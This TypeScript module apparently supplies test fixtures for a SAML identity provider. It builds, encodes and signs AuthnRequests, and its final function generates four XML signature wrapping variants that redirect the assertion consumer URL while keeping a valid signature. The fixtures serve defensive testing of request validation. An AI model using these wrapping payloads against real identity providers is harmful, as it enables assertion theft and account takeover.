import crypto from 'node:crypto';
import zlib from 'node:zlib';
import forge from 'node-forge';
import { SignedXml } from 'xml-crypto';

/**
 * What a service provider sends: AuthnRequests built as real SPs build them, encoded for the
 * Redirect and POST bindings, optionally signed with the SP's key (xml-crypto for POST, a detached
 * signature over the query octets for Redirect), plus XML signature wrapping (XSW) attacks on them.
 */

export interface SpCredential {
  privateKeyPem: string;
  certPem: string;
}

export function createSpCredential(commonName = 'test-sp.example'): SpCredential {
  const { privateKey, publicKey } = crypto.generateKeyPairSync('rsa', { modulusLength: 2048 });
  const cert = forge.pki.createCertificate();
  cert.publicKey = forge.pki.publicKeyFromPem(publicKey.export({ type: 'spki', format: 'pem' }) as string);
  cert.serialNumber = `01${crypto.randomBytes(8).toString('hex')}`;
  cert.validity.notBefore = new Date(Date.now() - 60_000);
  cert.validity.notAfter = new Date(Date.now() + 365 * 86_400_000);
  cert.setSubject([{ name: 'commonName', value: commonName }]);
  cert.setIssuer([{ name: 'commonName', value: commonName }]);
  const privateKeyPem = privateKey.export({ type: 'pkcs1', format: 'pem' }) as string;
  cert.sign(forge.pki.privateKeyFromPem(privateKeyPem), forge.md.sha256.create());
  return { privateKeyPem, certPem: forge.pki.certificateToPem(cert) };
}

export interface AuthnRequestOptions {
  id?: string;
  /** null leaves the Issuer out. */
  issuer?: string | null;
  destination?: string;
  acsUrl?: string;
  acsIndex?: number;
  issueInstant?: Date;
  protocolBinding?: string;
  forceAuthn?: boolean;
  isPassive?: boolean;
  nameIdPolicyFormat?: string;
  requestedAuthnContext?: string[];
  /** Raw XML placed after the Issuer (for Extensions, size tests). */
  extraXml?: string;
}

const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');

export function buildAuthnRequestXml(o: AuthnRequestOptions = {}): string {
  const attrs = [
    `ID="${esc(o.id ?? `_${crypto.randomBytes(16).toString('hex')}`)}"`,
    'Version="2.0"',
    `IssueInstant="${(o.issueInstant ?? new Date()).toISOString()}"`,
    o.destination !== undefined ? `Destination="${esc(o.destination)}"` : '',
    o.acsUrl !== undefined ? `AssertionConsumerServiceURL="${esc(o.acsUrl)}"` : '',
    o.acsIndex !== undefined ? `AssertionConsumerServiceIndex="${o.acsIndex}"` : '',
    o.acsUrl !== undefined || o.protocolBinding ? `ProtocolBinding="${esc(o.protocolBinding ?? 'urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST')}"` : '',
    o.forceAuthn ? 'ForceAuthn="true"' : '',
    o.isPassive ? 'IsPassive="true"' : '',
  ].filter(Boolean).join(' ');
  const issuer = o.issuer === null ? '' : `<saml:Issuer>${esc(o.issuer ?? 'https://wiki.example/sp')}</saml:Issuer>`;
  const policy = o.nameIdPolicyFormat ? `<samlp:NameIDPolicy Format="${esc(o.nameIdPolicyFormat)}" AllowCreate="true"/>` : '';
  const context = o.requestedAuthnContext
    ? `<samlp:RequestedAuthnContext Comparison="exact">${o.requestedAuthnContext.map((c) => `<saml:AuthnContextClassRef>${esc(c)}</saml:AuthnContextClassRef>`).join('')}</samlp:RequestedAuthnContext>`
    : '';
  return '<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" '
    + `${attrs}>${issuer}${o.extraXml ?? ''}${policy}${context}</samlp:AuthnRequest>`;
}

const SIG_ALGS = {
  'rsa-sha1': { uri: 'http://www.w3.org/2000/09/xmldsig#rsa-sha1', hash: 'sha1' },
  'rsa-sha256': { uri: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256', hash: 'sha256' },
  'rsa-sha512': { uri: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha512', hash: 'sha512' },
} as const;

/** HTTP-Redirect (bindings §3.4.4): DEFLATE, base64, URL-encode; signed over the encoded octets. */
export function toRedirectQuery(xml: string, o: { relayState?: string; sign?: { privateKeyPem: string; sigAlg?: keyof typeof SIG_ALGS } } = {}): string {
  let query = `SAMLRequest=${encodeURIComponent(zlib.deflateRawSync(Buffer.from(xml, 'utf8')).toString('base64'))}`;
  if (o.relayState !== undefined) query += `&RelayState=${encodeURIComponent(o.relayState)}`;
  if (o.sign) {
    const alg = SIG_ALGS[o.sign.sigAlg ?? 'rsa-sha256'];
    query += `&SigAlg=${encodeURIComponent(alg.uri)}`;
    const signature = crypto.sign(alg.hash, Buffer.from(query, 'utf8'), o.sign.privateKeyPem).toString('base64');
    query += `&Signature=${encodeURIComponent(signature)}`;
  }
  return query;
}

/** An enveloped signature on the AuthnRequest, placed after the Issuer, as SPs' toolkits do. */
export function signRequestXml(xml: string, sign: SpCredential, algorithm: keyof typeof SIG_ALGS = 'rsa-sha256'): string {
  const signer = new SignedXml({
    privateKey: sign.privateKeyPem, publicCert: sign.certPem,
    signatureAlgorithm: SIG_ALGS[algorithm].uri, canonicalizationAlgorithm: 'http://www.w3.org/2001/10/xml-exc-c14n#',
  });
  signer.addReference({
    xpath: "/*[local-name()='AuthnRequest']",
    transforms: ['http://www.w3.org/2000/09/xmldsig#enveloped-signature', 'http://www.w3.org/2001/10/xml-exc-c14n#'],
    digestAlgorithm: 'http://www.w3.org/2001/04/xmlenc#sha256',
  });
  signer.computeSignature(xml, {
    prefix: 'ds',
    location: { reference: "/*[local-name()='AuthnRequest']/*[local-name()='Issuer']", action: 'after' },
  });
  return signer.getSignedXml();
}

/** HTTP-POST (bindings §3.5.4): base64 of the XML, no DEFLATE. */
export function toPostForm(xml: string, o: { relayState?: string; sign?: SpCredential; sigAlg?: keyof typeof SIG_ALGS } = {}): Record<string, string> {
  const body = o.sign ? signRequestXml(xml, o.sign, o.sigAlg) : xml;
  const form: Record<string, string> = { SAMLRequest: Buffer.from(body, 'utf8').toString('base64') };
  if (o.relayState !== undefined) form.RelayState = o.relayState;
  return form;
}

/**
 * XML signature wrapping variants of a validly signed AuthnRequest (the shapes SAML Raider and
 * samlify issue #634 use): each keeps the original signature verifiable somewhere in the document
 * while the root, which an IdP reads, asks for `evilAcsUrl`.
 */
export function wrapSignedRequest(signedXml: string, o: { evilAcsUrl: string }): { name: string; xml: string }[] {
  const idOf = (xml: string) => /\sID="([^"]+)"/.exec(xml)![1];
  const id = idOf(signedXml);
  const evilId = `_evil${crypto.randomBytes(8).toString('hex')}`;
  const signature = /<ds:Signature[\s\S]*<\/ds:Signature>/.exec(signedXml)![0];
  const unsigned = signedXml.replace(signature, '');
  const evilRoot = (xml: string, newId: string) => xml
    .replace(/AssertionConsumerServiceURL="[^"]*"/, `AssertionConsumerServiceURL="${o.evilAcsUrl}"`)
    .replace(`ID="${id}"`, `ID="${newId}"`);
  const openTag = (xml: string) => /^<samlp:AuthnRequest[^>]*>/.exec(xml)![0];
  const issuerEnd = '</saml:Issuer>';
  const inject = (xml: string, what: string) => xml.replace(issuerEnd, `${issuerEnd}${what}`);
  // Extensions may only hold elements of other namespaces (core §3.2.1), so the original hides in one.
  const hidden = (xml: string) => `<samlp:Extensions><w:Wrap xmlns:w="urn:example:wrap">${xml}</w:Wrap></samlp:Extensions>`;
  return [
    {
      // XSW #1 shape: a new root with the evil ACS; the original signed request sits in Extensions.
      name: 'signed original inside Extensions of an evil root',
      xml: inject(evilRoot(unsigned, evilId), hidden(signedXml)),
    },
    {
      // The evil root keeps the original ID and the signature; the original moves under Extensions with it.
      name: 'evil root reusing the signed ID, original under Extensions',
      xml: inject(evilRoot(unsigned, id), `${signature}${hidden(unsigned)}`),
    },
    {
      // The signature stays a child of the evil root, but references the original kept inside it.
      name: 'root signature referencing a wrapped original',
      xml: inject(evilRoot(unsigned, evilId), `${signature}${hidden(unsigned)}`),
    },
    {
      // Two signatures: a forged one for the root next to the valid one.
      name: 'a second signature element',
      xml: `${openTag(signedXml)}${signedXml.slice(openTag(signedXml).length).replace(issuerEnd, `${issuerEnd}${signature}`)}`,
    },
  ];
}
